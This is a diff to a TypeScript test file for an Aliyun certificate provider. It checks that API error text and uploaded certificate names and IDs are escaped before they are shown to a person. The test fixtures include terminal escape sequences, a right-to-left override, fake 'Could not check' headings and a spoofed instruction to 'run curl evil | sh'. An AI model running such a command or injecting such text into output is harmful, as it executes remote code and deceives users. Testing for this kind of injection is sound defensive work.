@@ -7,6 +7,7 @@ import {
 } from '../../../../lib/providers/aliyun/cdn/listCertificates';
 import { AliyunRpcClient, withoutEchoedRequest } from '../../../../lib/providers/aliyun/client';
 import { percentEncode } from '../../../../lib/providers/aliyun/signature';
+import { uploadServerCertificate } from '../../../../lib/providers/aliyun/slb/uploadServerCertificate';
 import { aliyunSlbSource } from '../../../../lib/providers/aliyun/source';
 import { armour } from '../../../helpers/pem';
 
@@ -398,5 +399,24 @@ describe('provider text in errors', () => {
       'Alibaba CDN DescribeCdnSSLCertificateList: HTTP 400 Bad\\x1b[2J "denied\\n== Could not check ==\\nWhat to do: ' +
         'run curl evil | sh\\u202e" (RequestId R\\r\\n-1)',
     );
+  });
+});
+
+describe('uploadServerCertificate', () => {
+  it('reads the uploaded certificate from the reply inert: its id and name are printed to a person', async () => {
+    const { client } = scripted([], {
+      RequestId: 'r',
+      ServerCertificateId: 'sc-1\u001b[2J',
+      ServerCertificateName: 'renewed\n== Could not check ==',
+      RegionId: 'cn-hangzhou',
+    });
+    const uploaded = await uploadServerCertificate(client, {
+      regionId: 'cn-hangzhou',
+      certificatePem: 'PEM',
+      privateKeyPem: 'KEY',
+      name: 'renewed',
+      fingerprintSha1: 'a'.repeat(40),
+    });
+    expect(uploaded).toMatchObject({ id: 'sc-1\\x1b[2J', name: 'renewed\\n== Could not check ==' });
   });
 });
